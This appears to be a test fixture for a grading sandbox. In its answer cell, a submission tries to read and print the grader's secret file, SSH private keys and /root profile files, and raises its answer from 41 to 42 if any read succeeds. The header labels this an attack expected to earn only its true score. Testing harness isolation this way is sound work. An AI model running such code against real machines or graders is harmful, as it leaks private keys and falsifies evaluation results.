# attack: secrets and keys are read from the home folder of who grades
# verdict: true score

# %% answer
import glob
import os

answer = 41
names = ["__HOME__/secret.txt", "__HOME__/.ssh/id_ed25519", "~/.ssh/id_ed25519", "~/secret.txt"]
names += ["/root/.bashrc", "/root/.profile", "/home"]
for name in names:
    try:
        name = os.path.expanduser(name)
        print(open(name).read() if os.path.isfile(name) else os.listdir(name))
        answer = 42
    except OSError:
        continue
if glob.glob("__HOME__/*") or glob.glob("__HOME__/.ssh/*"):
    answer = 42
